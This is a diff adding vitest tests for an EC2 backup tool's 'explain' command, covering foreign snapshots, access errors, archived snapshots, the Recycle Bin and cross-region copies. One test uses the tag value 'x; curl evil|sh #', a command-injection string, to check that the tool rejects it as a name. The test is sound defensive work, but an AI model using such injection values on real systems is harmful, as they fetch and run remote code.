@@ -1,5 +1,6 @@
 import { describe, expect, test } from 'vitest';
 import { DAY, HOUR, MINUTE, POLICIES, START, Scenario, type ScenarioOptions } from '../support/scenario.ts';
+import { copiedPolicies, Copying, EAST } from '../support/copying.ts';
 import { parseJson, type PlanAnswer } from './answers.ts';
 import { fileWith, mutatingCalls, run, type Ended } from './fake-shell.ts';
 
@@ -304,6 +305,16 @@ describe('an AMI or a snapshot that is not ours', () => {
       says: 'Another deployment of ec2-backup made it, "prod" (policy daily,',
     },
     {
+      tags: { 'ec2-backup:deployment': 'prod' },
+      whose: 'another deployment',
+      says: '): ask with --deployment prod and its policy file.',
+    },
+    {
+      tags: { 'ec2-backup:deployment': 'x; curl evil|sh #' },
+      whose: 'another deployment',
+      says: '"x; curl evil|sh #" (policy ?, source ?, slot ?), says its tag, which is no name that a deployment can have.',
+    },
+    {
       tags: { 'ec2-backup:deployment': 'test', 'ec2-backup:rehearsal': 'nightly/x' },
       whose: 'a rehearsal',
       says: 'A rehearsal of deployment "test" made it',
@@ -357,10 +368,96 @@ policies:
     });
     const { out } = await run(['explain', '--policies', await fileWith(policies), id], { scenario });
     expect(out).toContain('DLM runs it for policy hourly of the policy file.');
+    expect(out).not.toContain('could not be asked');
+    const refusal = { kind: 'error', name: 'AccessDeniedException', status: 403 } as const;
+    scenario.region.faults = ({ command }) => (command === 'GetLifecyclePolicies' ? refusal : undefined);
+    const denied = await run(['explain', '--policies', await fileWith(policies), id], { scenario });
+    expect(denied.code).toBe(0);
+    expect(denied.out).toContain(
+      'For which policy of the file that is could not be asked: DLM did not answer (AccessDeniedException',
+    );
+  });
+});
+
+describe('what is not told by tags', () => {
+  test('a snapshot that an AMI of somebody maps names the AMI', async () => {
+    const here = await world();
+    const { region } = here.scenario;
+    const golden = region.registerImage({ name: 'golden' });
+    const [part = ''] = region.images().find(({ id }) => id === golden)?.snapshotIds ?? [];
+    const { out } = await here.explain(part);
+    expect(out).toContain(`The AMI ${golden} maps it: EC2 does not let it be deleted while that is there.`);
+    const alone = region.createForeignSnapshot({});
+    expect((await here.explain(alone)).out).not.toContain('maps it');
+    expect(parseJson<object>((await here.explain(part, '--json')).out)).toMatchObject({ images: [golden] });
+  });
+
+  test('what is in the archive says so: a restore has to wait for it', async () => {
+    const here = await world();
+    const { scenario } = here;
+    const { region, clock } = scenario;
+    region.createVolume({ sizeGiB: 8, tags: { Backup: 'disks' } });
+    await scenario.backup('disks');
+    clock.advance(HOUR);
+    const disk = region.snapshots().find(({ tags }) => tags['ec2-backup:policy'] === 'disks')?.id ?? '';
+    expect((await here.explain(disk)).out).not.toContain('archive');
+    region.protecting.archive(disk);
+    clock.advance(3 * DAY);
+    const { out } = await here.explain(disk);
+    expect(out).toContain(
+      '  archive its snapshot is in the archive: a restore asks EC2 to bring back what it needs first, which takes up to 72 hours',
+    );
+    expect(parseJson<object>((await here.explain(disk, '--json')).out)).toMatchObject({ archived: [disk] });
+  });
+
+  test('snapshots that their AMI has left behind are not called an AMI, nor said to be in the Recycle Bin', async () => {
+    const here = await world();
+    const { region, clock } = here.scenario;
+    region.addRecycleBinRule('EC2_IMAGE', 7);
+    const { id, snapshotIds } = region.images()[4] ?? { id: '', snapshotIds: [] };
+    const [left = ''] = snapshotIds;
+    region.deregisterByHand(id);
+    clock.advance(2 * DAY);
+    const { out } = await here.explain(left);
+    expect(out.split('\n')[0]).toBe(
+      `${left} is part of a recovery point whose AMI is not there: 1 snapshot, and nothing to start an instance from.`,
+    );
+    expect(out).toContain(
+      '  its AMI is in the Recycle Bin, and may be taken out again (AMI in the Recycle Bin)',
+    );
+    expect(out).not.toContain('an AMI with');
+    expect(out).not.toContain('a backup of its name');
   });
 });
 
 describe('an instance', () => {
+  test('of which only copies are here is not said to be without a backup', async () => {
+    const place = new Copying(copiedPolicies(`[{ region: ${EAST.region} }]`), { pageSize: 1000 });
+    const { scenario, clock } = place;
+    const { id } = scenario.region.runInstance({ tags: { 'Backup:images': 'true' } });
+    await place.backUp('images');
+    await place.copy(EAST);
+    clock.advance(DAY);
+    const file = await fileWith(copiedPolicies(`[{ region: ${EAST.region} }]`));
+    const args = ['explain', '--policies', file, '--region', EAST.region, id];
+    const { code, out } = await run(args, { scenario });
+    expect(code).toBe(0);
+    expect(out).toContain(
+      `There is no instance ${id} in account 111122223333, Region us-east-1: it is or was in account 111122223333, Region ap-northeast-2, and copies of its backups are here.`,
+    );
+    expect(out).toContain('Copies of what was made elsewhere');
+    expect(out).toMatch(
+      /^ {2}images: 1 copied point here, the newest good one \d+ h old, from account 111122223333, Region ap-northeast-2$/m,
+    );
+    expect(out).not.toContain('it is not backed up');
+    expect(out).not.toContain('do not take it now');
+    const answer = parseJson<object>((await run([...args, '--json'], { scenario })).out);
+    expect(answer).toMatchObject({
+      leftovers: [],
+      copies: [{ policy: 'images', points: 1, from: { account: '111122223333', region: 'ap-northeast-2' } }],
+    });
+  });
+
   test('that is backed up is told by which tag, how old its newest good point is, and when the next comes', async () => {
     const here = await world();
     const answer = await here.source(here.web);
